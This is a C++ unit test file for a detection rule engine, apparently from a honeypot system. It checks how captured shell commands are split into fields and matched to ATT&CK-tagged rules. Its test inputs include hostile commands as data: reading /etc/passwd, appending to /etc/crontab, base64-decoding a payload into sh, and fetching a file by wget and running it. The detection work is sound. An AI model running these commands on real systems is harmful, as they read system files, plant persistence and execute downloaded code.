// Rules on what the shell analysis makes of a command.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ostream>
#include <string>
#include <vector>

#include "decnet/rules/loader.h"
#include "decnet/rules/rule_set.h"

namespace decnet::rules {
namespace {

using testing::IsEmpty;
using testing::SizeIs;

std::shared_ptr<const RuleSet> rule(const std::string& field, const std::string& pattern,
                                    const std::string& kind = "command") {
  const std::string yaml = "rule_id: R1\nrule_version: 1\nname: n\napplies_to: [" + kind +
                           "]\nmatch:\n  field: " + field + "\n  pattern: '" + pattern +
                           "'\nemits:\n- {technique_id: T1083, tactic: TA0007, confidence: 0.9}\n";
  std::vector<Problem> problems;
  std::vector<Definition> definitions;
  definitions.push_back(read_definition(yaml, "a.yaml", problems).value());
  return RuleSet::compile(std::move(definitions), *attack::Catalogue::built_in()).rules;
}

Event event(const std::string& text, const std::string& kind = "command") {
  Event event;
  event.source_kind = kind;
  event.source_id = "e";
  event.attacker_uuid = "a";
  event.payload = Json::object({{"command_text", text}});
  return event;
}

struct Case {
  const char* name;
  const char* field;
  const char* pattern;
  const char* text;
  const char* layer;  // null: no match
  const char* matched;
};
void PrintTo(const Case& row, std::ostream* out) { *out << row.text; }

class ShellFields : public testing::TestWithParam<Case> {};

TEST_P(ShellFields, AreSearched) {
  const auto& row = GetParam();
  const auto rules = rule(row.field, row.pattern);  // matches point into them
  const auto matches = rules->match(event(row.text));
  if (row.layer == nullptr) {
    EXPECT_THAT(matches, IsEmpty());
    return;
  }
  ASSERT_THAT(matches, SizeIs(1));
  EXPECT_EQ(matches[0].layer, row.layer);
  EXPECT_EQ(matches[0].matched, row.matched);
  EXPECT_EQ(matches[0].field, row.field);
}

INSTANTIATE_TEST_SUITE_P(
    Fields, ShellFields,
    testing::ValuesIn(std::vector<Case>{
        {"RawFirst", "command_text", "wget", "wget x", "", "wget"},
        {"ThenNormal", "command_text", "wget x", "w\"g\"et  x", "normal", "wget x"},
        {"ThenLayers", "command_text", "^id$", "eval id", "eval", "id"},
        {"NotThere", "command_text", "curl", "w\"g\"et x", nullptr, ""},
        {"Simple", "simple_command", "^cat /etc/passwd$", "cd /; /bin/cat '/etc/passwd'|wc",
         "normal", "cat /etc/passwd"},
        {"SimpleOnly", "simple_command", "cat.*wc", "cat x | wc", nullptr, ""},
        {"Pipeline", "pipeline", "cat x [|] wc", "a; cat x|wc", "normal", "cat x | wc"},
        {"Line", "command_line", "^a && b$", "a&&b", "normal", "a && b"},
        {"Name", "argv0", "^wget$", "sudo /usr/bin/wget x", "normal", "wget"},
        {"Arguments", "args", "^-q x$", "wget -q x > y", "normal", "-q x"},
        {"Redirect", "redirect", "^>> /etc/crontab$", "echo x >>/etc/crontab", "normal",
         ">> /etc/crontab"},
        {"RedirectInQuotes", "redirect", "crontab", "echo '>> /etc/crontab'", nullptr, ""},
        {"Decoded", "decoded", "^wget", "echo d2dldCB4|base64 -d|sh", "base64", "wget"},
        {"DecodedOnly", "decoded", "wget", "wget x", nullptr, ""},
        {"Decoding", "decoding", "^base64 run$", "echo d2dldCB4|base64 -d|sh", "base64",
         "base64 run"},
        {"CommandsOfALayer", "argv0", "^wget$", "echo d2dldCB4|base64 -d|sh", "base64", "wget"},
    }),
    [](const auto& row) { return row.param.name; });

TEST(ShellFields, FireOnceForAnEvent) {
  EXPECT_THAT(rule("simple_command", "^id")->match(event("id; id -u; sh -c 'id -g'")), SizeIs(1));
}

TEST(ShellFields, AreOfCommandsAlone) {
  EXPECT_THAT(rule("argv0", "id", "payload")->match(event("id", "payload")), IsEmpty());
}

// A session's end tells its commands: what happens to files from one to the next is seen there.
TEST(ShellFields, FlowOfASession) {
  Event ended = event("", "session");
  ended.payload = *Json::parse(
      R"({"commands": [{"command_text": "cd /tmp"}, {"text": "wget 192.0.2.1/x"}, "sh x", 5, {}]})");
  const auto rules = rule("flow", "-then-run .+", "session");
  const auto matches = rules->match(ended);
  ASSERT_THAT(matches, SizeIs(1));
  EXPECT_EQ(matches[0].matched, "-then-run /tmp/x");
  EXPECT_THAT(rule("argv0", "wget", "session")->match(ended), IsEmpty());
  ended.payload = *Json::parse(R"({"commands": 5})");
  EXPECT_THAT(rule("flow", "run", "session")->match(ended), IsEmpty());
}

TEST(ShellFields, WinOverKeysOfThePayload) {
  Event told = event("id");
  told.payload.set("argv0", Json("wget"));
  EXPECT_THAT(rule("argv0", "wget")->match(told), IsEmpty());
  EXPECT_THAT(rule("argv0", "id")->match(told), SizeIs(1));
}

TEST(ShellFields, AreNothingWithoutACommand) {
  for (const char* payload : {"{}", R"({"command_text": 5})", R"({"command_text": ["id"]})"}) {
    Event told = event("id");
    told.payload = *Json::parse(payload);
    EXPECT_THAT(rule("argv0", "id")->match(told), IsEmpty()) << payload;
  }
}

TEST(ShellFields, AnEventIsAnalysedByItself) {
  const auto rules = rule("argv0", "^id$");
  EXPECT_THAT(rules->match(event("id")), SizeIs(1));
  EXPECT_THAT(rules->match(event("w")), IsEmpty());
  EXPECT_THAT(rules->match(event("/bin/id")), SizeIs(1));
}

// A few commands and many are searched in different ways.
TEST(ShellFields, OfManyCommands) {
  std::string many;
  for (int i = 0; i < 200; ++i) many += "true a" + std::to_string(i) + "; ";
  for (const std::string& text : {std::string("/bin/wget 'x'"), many + "/bin/wget 'x'"}) {
    for (const auto& [field, pattern] :
         std::vector<std::pair<std::string, std::string>>{{"argv0", "^wget$"},
                                                          {"args", "^x$"},
                                                          {"simple_command", "^wget x$"},
                                                          {"pipeline", "^wget x$"},
                                                          {"command_line", "wget x$"}}) {
      EXPECT_THAT(rule(field, pattern)->match(event(text)), SizeIs(1)) << field;
      EXPECT_THAT(rule(field, "nothere")->match(event(text)), IsEmpty()) << field;
    }
  }
}

TEST(ShellFields, OfALongTextAreMarked) {
  const auto rules = rule("argv0", "^id$");
  const auto matches = rules->match(event("id; echo " + std::string(100'000, 'a')));
  ASSERT_THAT(matches, SizeIs(1));
  EXPECT_TRUE(matches[0].truncated);
}

}  // namespace
}  // namespace decnet::rules
